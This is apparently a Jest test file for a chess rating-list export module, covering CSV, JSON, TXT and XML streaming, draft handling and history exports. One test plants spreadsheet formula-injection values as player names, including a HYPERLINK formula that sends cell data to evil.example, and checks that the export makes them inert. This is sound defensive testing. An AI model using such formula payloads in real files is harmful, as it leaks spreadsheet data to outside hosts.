import { insertColumns, Player, RatingListEntry } from '@ratings/db';
import {
  createTestDatabase,
  makePlayer,
  makePool,
  makeRatingChange,
  makeRatingList,
  makeRatingListEntry,
  makeTournament,
  publishRatingList,
  type TestDatabase,
} from '@ratings/db/testing';
import { UTF8_BOM } from './formats';
import { exportPoolHistory, exportRatingList } from './list-export';

async function collect(chunks: AsyncGenerator<string>): Promise<{ text: string; chunks: number }> {
  let text = '';
  let count = 0;
  for await (const chunk of chunks) {
    text += chunk;
    count++;
  }
  return { text, chunks: count };
}

/** More players than one read batch (5,000), so the keyset pagination is exercised. */
const PLAYERS = 12_003;

describe('list exports, streamed from the database', () => {
  let db: TestDatabase;
  let listId: number;
  let draftId: number;
  let poolId: number;

  beforeAll(async () => {
    db = await createTestDatabase();
    const pool = await makePool(db.dataSource, { code: 'standard', ratingSystemId: 'fqe' });
    poolId = pool.id;
    const names = Array.from({ length: PLAYERS }, (_, i) => `Joueur${String(i).padStart(5, '0')}`);
    const { rows } = await insertColumns(
      db.dataSource.manager,
      Player,
      { surname: names, givenName: names.map((_, i) => (i === 0 ? 'Anne, "la Tour"' : 'Test')) },
      { returning: ['id', 'surname'] },
    );
    const ids = new Map(rows.map((r) => [r.surname!, r.id!]));
    const list = await makeRatingList(db.dataSource, { poolId: pool.id, period: '2026-11', ratingSystemId: 'fqe' });
    // Rank i+1 for the first PLAYERS-3 players; the last three are not listed (no rank).
    await insertColumns(db.dataSource.manager, RatingListEntry, {
      listId: new Int32Array(PLAYERS).fill(list.id),
      poolId: new Int32Array(PLAYERS).fill(pool.id),
      effectiveDate: names.map(() => list.effectiveDate),
      playerId: Int32Array.from(names, (n) => ids.get(n)!),
      rating: Float64Array.from(names, (_, i) => (i >= PLAYERS - 3 ? NaN : 2800 - Math.floor(i / 10))),
      rank: Float64Array.from(names, (_, i) => (i >= PLAYERS - 3 ? NaN : i + 1)),
      listed: Uint8Array.from(names, (_, i) => (i >= PLAYERS - 3 ? 0 : 1)),
      provisional: Uint8Array.from(names, (_, i) => (i % 7 === 0 ? 1 : 0)),
      gamesTotal: new Int32Array(PLAYERS).fill(30),
    });
    listId = (await publishRatingList(db.dataSource, list.id)).id;
    draftId = (await makeRatingList(db.dataSource, { poolId: pool.id, period: '2026-12', ratingSystemId: 'fqe' })).id;
  });
  afterAll(() => db?.destroy());

  it('streams CSV in batches, ranked players first, every player once', async () => {
    const file = await exportRatingList(db.dataSource, listId, 'csv');
    expect(file).toMatchObject({ fileName: 'standard-2026-11.csv', contentType: 'text/csv; charset=utf-8' });
    const { text, chunks } = await collect(file.chunks);
    expect(chunks).toBe(1 + 3); // header + three batches of at most 5,000
    expect(text.startsWith(`${UTF8_BOM}rank,player_id,`)).toBe(true);
    const lines = text.slice(UTF8_BOM.length).trimEnd().split('\r\n');
    expect(lines).toHaveLength(PLAYERS + 1);
    expect(lines[1]).toMatch(/^1,\d+,,,Joueur00000,"Anne, ""la Tour""",,,,,,2800,true,,0,30,,true,false$/);
    expect(lines[PLAYERS - 3].startsWith(`${PLAYERS - 3},`)).toBe(true);
    expect(lines[PLAYERS].startsWith(',')).toBe(true); // unranked last
  });

  it('streams JSON that parses, TXT lines of FIDE width and XML with one element per player', async () => {
    const json = JSON.parse((await collect((await exportRatingList(db.dataSource, listId, 'json')).chunks)).text);
    expect(json.list).toMatchObject({ pool: 'standard', period: '2026-11', revision: 0, status: 'PUBLISHED' });
    expect(json.entries).toHaveLength(PLAYERS);
    expect(json.entries[7]).toMatchObject({ rank: 8, rating: 2800, provisional: true, gamesTotal: 30 });
    const txt = (await collect((await exportRatingList(db.dataSource, listId, 'txt')).chunks)).text.split('\r\n');
    expect(txt[0]).toMatch(/^ID Number {6}Name .* NOV26 Gms K  B-day Flag Nat ID {26}$/);
    expect(txt.slice(0, -1).every((line) => line.length === 137 + 32)).toBe(true);
    const xml = (await collect((await exportRatingList(db.dataSource, listId, 'xml')).chunks)).text;
    expect(xml.match(/<player>/g)).toHaveLength(PLAYERS);
    expect(xml.trimEnd().endsWith('</playerslist>')).toBe(true);
  });

  it('hides drafts unless asked, and refuses unknown formats and lists', async () => {
    await expect(exportRatingList(db.dataSource, draftId, 'csv')).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(exportRatingList(db.dataSource, draftId, 'csv', { allowDraft: true })).resolves.toMatchObject({
      list: { status: 'DRAFT' },
    });
    await expect(exportRatingList(db.dataSource, 999_999, 'csv')).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });

  it('exports every player’s history, one row per player and list', async () => {
    const { text } = await collect(exportPoolHistory(db.dataSource, poolId, 'lists'));
    expect(text.startsWith(UTF8_BOM)).toBe(true);
    const lines = text.slice(UTF8_BOM.length).trimEnd().split('\r\n');
    expect(lines[0]).toBe(
      'player_id,national_id,surname,given_name,period,effective_date,revision,rating,provisional,rank,category,games_period,games_total,k',
    );
    expect(lines).toHaveLength(PLAYERS + 1); // one published list
    expect(lines[1]).toMatch(/^\d+,,Joueur00000,"Anne, ""la Tour""",2026-11,2026-11-01,0,2800,true,1,,0,30,$/);
  });

  it('writes names that look like formulas as inert text, and negative numbers as numbers', async () => {
    const pool = await makePool(db.dataSource, { code: 'blitz', ratingSystemId: 'fqe' });
    const player = await makePlayer(db.dataSource, {
      surname: '=HYPERLINK("http://evil.example/?"&A1,"Tremblay")',
      givenName: '@SUM(A1:A9)',
      club: '+CE Montréal',
      nationalId: '-12',
    });
    const list = await makeRatingList(db.dataSource, { poolId: pool.id, period: '2026-11', ratingSystemId: 'fqe' });
    await makeRatingListEntry(db.dataSource, { listId: list.id, playerId: player.id, rating: 1500, rank: 1 });
    const tournament = await makeTournament(db.dataSource, { poolId: pool.id, name: '\tOpen -2' });
    await makeRatingChange(db.dataSource, {
      listId: list.id,
      playerId: player.id,
      tournamentId: tournament.id,
      ratingBefore: 1512,
      ratingAfter: 1500,
      change: -12,
    });
    const published = await publishRatingList(db.dataSource, list.id);

    const listCsv = (await collect((await exportRatingList(db.dataSource, published.id, 'csv')).chunks)).text;
    expect(listCsv.split('\r\n')[1]).toBe(
      `1,${player.id},'-12,,"'=HYPERLINK(""http://evil.example/?""&A1,""Tremblay"")",'@SUM(A1:A9),CAN,M,,,'+CE Montréal,1500,false,,0,0,,true,false`,
    );
    const changes = (await collect(exportPoolHistory(db.dataSource, pool.id, 'tournaments'))).text.split('\r\n');
    expect(changes[1]).toBe(
      `${player.id},'-12,"'=HYPERLINK(""http://evil.example/?""&A1,""Tremblay"")",'@SUM(A1:A9),2026-11,2026-11-01,` +
        `${tournament.id},'\tOpen -2,${tournament.endDate},1512,1500,0,0,0,,0,,-12`,
    );
  });
});
